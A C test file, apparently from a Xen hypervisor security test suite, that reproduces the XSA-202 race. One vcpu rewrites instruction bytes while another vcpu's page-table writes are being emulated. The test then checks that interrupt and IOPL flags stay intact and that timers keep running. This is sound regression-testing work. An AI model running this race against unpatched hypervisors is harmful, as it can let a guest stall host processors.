/* SPDX-License-Identifier: MIT */
/*
 * XSA-202: an instruction that is another one by the time it is emulated.
 *
 * A write to a page table faults, and the hypervisor reads the instruction and carries it out. Another
 * processor may have changed it meanwhile. Xen used its full emulator there, so that a guest could have
 * any instruction emulated, also those it must not: with CLI or POPF, EFLAGS.IF stayed clear when the
 * guest went on, and no interrupt came to that processor any more.
 *
 * Here the first vcpu runs an instruction in a page of its own, and the second changes it without pause
 * between a write to a page-table entry and instructions that touch IF, other flags, segments, ports and
 * control registers. Whatever is read there is carried out or faults; IF stays set and IOPL clear, in
 * each state that code of the guest gets to see, and timers go on.
 *
 * Run: qemu
 * Machine: smp=2 mem=64
 */
#include "../../attack.h"

#include <xen/physdev.h>
#include <xen/sched.h>
#include <xen/vcpu.h>

#include <pv/time.h>
#include <pv/vcpu.h>

#define ROUNDS 20000
#define LONGEST (5 * NS_PER_SEC)
#define TARGET ((volatile uint32_t *)QUIET_VA)

/* Of two bytes each. */
static const uint8_t instructions[][2] = {
    {0x89, 0x01},               /* mov %eax, (%ecx): the entry */
    {0xfa, 0x90},               /* cli; nop */
    {0x89, 0x01}, {0x9c, 0x9d}, /* pushf; popf */
    {0x89, 0x01}, {0x87, 0x01}, /* xchg %eax, (%ecx) */
    {0x0f, 0x06},               /* clts */
    {0x89, 0x01}, {0x8f, 0x01}, /* pop (%ecx) */
    {0x50, 0x9d},               /* push %eax; popf */
    {0x89, 0x01}, {0xfb, 0xfa}, /* sti; cli */
    {0x89, 0x01}, {0xe6, 0x80}, /* out %al, $0x80 */
    {0xcf, 0x90},               /* iret */
    {0x0f, 0xa2},               /* cpuid */
};
#define INSTRUCTIONS (sizeof(instructions) / sizeof(instructions[0]))

static volatile uint8_t *code;
static volatile bool stop, stopped;
static volatile uint32_t changes, served;
static volatile uint32_t *entry;
static uint32_t carried_out, faulted, wrong_flags;

static void changer(void *unused)
{
    (void)unused;
    while (!stop) {
        const uint8_t *next = instructions[changes % INSTRUCTIONS];

        *(volatile uint16_t *)code = next[0] | next[1] << 8;
        changes++;
        for (int i = 0; i < 50; i++)
            __asm__ volatile("pause");
    }
    stopped = true;
    for (;;)
        hv_vcpu_op(VCPUOP_down, 1, NULL);
}

/* What IRET finds, should it be one: the way behind it. EAX is no entry and sets no flag. */
static void run_code(void *unused)
{
    uint32_t flags;

    (void)unused;
    __asm__ volatile("pushl %%ebp; movl %%esp, %%ebp; pushl $0x202; pushl %%cs; pushl $1f;"
                     "jmp *%3\n"
                     "1: pushfl; popl %0; movl %%ebp, %%esp; popl %%ebp"
                     : "=d"(flags)
                     : "a"(0), "c"(entry), "b"(code)
                     : "memory", "cc");
    wrong_flags += (flags & (EFLAGS_IF | EFLAGS_IOPL)) != EFLAGS_IF;
}

static void serve(void)
{
    served++;
    timer_set(time_now() + NS_PER_MS, serve);
}

static void round_of_it(void)
{
    struct trap_frame f;

    if (!catch_fault(run_code, NULL, &f)) {
        carried_out++;
        return;
    }
    faulted++;
    wrong_flags += (f.eflags & (EFLAGS_IF | EFLAGS_IOPL)) != EFLAGS_IF;
}

/* ret behind the two bytes; the stack holds where to. */
static void make_code(void)
{
    uint8_t *page = page_alloc();

    memset(page, 0xc3, 16);
    code = page;
    *(volatile uint16_t *)code = 0x0189;
}

int main(void)
{
    struct physdev_set_iopl iopl = {.iopl = 1};
    uint64_t machine = pte_machine_address(TARGET), end = time_now() + LONGEST;
    uint32_t rounds;

    make_code();
    hv_vm_assist(VMASST_CMD_enable, VMASST_TYPE_writable_pagetables);
    hv_physdev_op(PHYSDEVOP_set_iopl, &iopl);
    entry = (uint32_t *)((char *)pfn_to_linear(mfn_to_pfn(machine >> PAGE_SHIFT)) +
                         (machine & (PAGE_SIZE - 1)));
    if (vcpu_start(1, changer, NULL))
        panic("there is no second vcpu");
    timer_set(time_now(), serve);
    for (rounds = 0; rounds < ROUNDS && time_now() < end; rounds++)
        round_of_it();
    stop = true;
    while (!stopped)
        hv_sched_op(SCHEDOP_yield, NULL);
    tap_diag("%lu rounds: %lu carried out, %lu faults, %lu changes, %lu events",
             (unsigned long)rounds, (unsigned long)carried_out, (unsigned long)faulted,
             (unsigned long)changes, (unsigned long)served);
    tap_ok(rounds > 100 && changes > 100, "instructions ran, and were changed");
    tap_is(wrong_flags, 0, "IF was set and IOPL clear at all times");
    served = 0;
    for (end = time_now() + LONGEST; served < 2 && time_now() < end;)
        hv_sched_op(SCHEDOP_yield, NULL);
    tap_ok(served > 1, "timers go on");
    tap_audit();
    tap_done();
}
